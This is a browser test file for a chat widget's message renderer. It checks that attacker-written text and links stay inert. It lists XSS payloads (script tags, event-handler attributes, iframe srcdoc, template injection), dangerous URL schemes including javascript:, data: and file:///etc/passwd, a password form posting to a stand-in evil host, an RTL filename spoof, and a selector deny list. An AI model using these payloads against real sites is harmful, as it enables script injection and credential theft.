import type { MessageRow } from '@batonchat/core';
import type { Answer, Part } from '@batonchat/protocol';
import { describe, expect, it, vi } from 'vitest';
import { render } from 'vitest-browser-react';
import { visitorLabels } from '../english.js';
import { messageRow, visitor } from '../testing/rows.js';
import { MessageParts } from './message-parts.js';
import { PartsProvider } from './parts-provider.js';

/** Every place of every part that takes text, filled with the same. */
const withText = (text: string): Part[] => [
  { type: 'choices', prompt: text, choices: [{ id: 'a', label: text, description: text }] },
  {
    type: 'carousel',
    cards: ['a', 'b'].map((id) => ({
      title: text,
      text,
      actions: [
        { type: 'choice', id, label: text },
        { type: 'link', label: text, href: 'https://a.example' },
      ],
    })),
  },
  {
    type: 'form',
    title: text,
    submitLabel: text,
    fields: [
      { id: 'a', label: text, kind: 'text', placeholder: text },
      { id: 'b', label: text, kind: 'select', options: [text] },
      { id: 'c', label: text, kind: 'checkbox' },
    ],
  },
  { type: 'rating', prompt: text, scale: 5, kind: 'stars', hasComment: true },
  { type: 'image', fileId: 'gone', name: text, alt: text, width: 4, height: 3 },
  { type: 'file', fileId: 'gone', name: text, mediaType: 'text/html', bytes: 1 },
  { type: 'choice', messageId: 'm', choiceIds: ['a'], label: text },
  { type: 'form-answer', messageId: 'm', values: [{ id: 'a', label: text, value: text }] },
  { type: 'rating-answer', messageId: 'm', kind: 'faces', score: 1, comment: text },
];

const texts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '"><button onclick=alert(1)>',
  "' autofocus onfocus=alert(1) '",
  '<form action=//evil.example><input name=password></form>',
  '<style>*{display:none}</style>',
  '[x](javascript:alert(1))',
  '{{constructor.constructor("alert(1)")()}}',
];

const addresses = [
  'javascript:alert(1)',
  'java\nscript:alert(1)',
  ' JavaScript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:alert(1)',
  'blob:https://a.example/1',
  'file:///etc/passwd',
  '//evil.example',
  '/\\evil.example',
];

async function shown(parts: Part[], changes: Partial<MessageRow> = {}) {
  const onAnswer = vi.fn<(answer: Answer) => void>();
  const { container } = await render(
    <PartsProvider onAnswer={onAnswer} fileUrl={() => Promise.reject(new Error('Gone.'))}>
      {parts.map((part) => (
        <MessageParts
          key={part.type}
          row={messageRow(1, visitor, '', { parts: [part], ...changes })}
          labels={visitorLabels}
        />
      ))}
    </PartsProvider>,
  );
  await expect.poll(() => container.querySelector('.baton-part-loading')).toBeNull();
  if (parts.some(({ type }) => type === 'image'))
    await expect.poll(() => container.querySelector('.baton-picture-failed, img')).not.toBeNull();
  return container;
}

const mayNotBe =
  'script, iframe, object, embed, style, link, meta, base, [onerror], [onload], [onclick], [onfocus], [autofocus], form[action], [srcdoc], [name="password"]';

describe('what attackers write into a part', () => {
  it.each(texts)('stays text: %s', async (text) => {
    for (const isAsking of [true, false]) {
      const box = await shown(withText(text), { isAsking });
      expect(box.querySelector(mayNotBe)).toBeNull();
      for (const link of box.querySelectorAll('a'))
        expect(link.getAttribute('href')).not.toMatch(/script|data:|evil/i);
      expect(box.textContent).toContain(text);
    }
  });

  it.each(addresses)('leads nowhere and loads nothing: %s', async (address) => {
    const box = await shown([
      { type: 'card', title: 'A', actions: [{ type: 'link', label: 'Go', href: address }] },
      {
        type: 'carousel',
        cards: ['a', 'b'].map((title) => ({
          title,
          image: { url: address, width: 4, height: 3, alt: '' },
        })),
      },
      { type: 'image', url: address, name: 'a.png', alt: '', width: 4, height: 3 },
    ]);
    for (const link of box.querySelectorAll('a'))
      expect(link.getAttribute('href')).not.toMatch(/script|data:|evil|blob|file/i);
    for (const image of box.querySelectorAll('img')) expect(image.getAttribute('src')).toBeNull();
    expect(box.textContent).toContain('Go');
  });

  it('cannot turn the name of a file round', async () => {
    const box = await shown([
      { type: 'file', fileId: 'gone', name: 'invoice\u202Efdp.exe', mediaType: 'application/pdf', bytes: 1 },
    ]);
    expect(box.textContent).toContain('invoicefdp.exe');
    expect(box.querySelector('.baton-file-kind')?.textContent).toBe('EXE');
  });
});
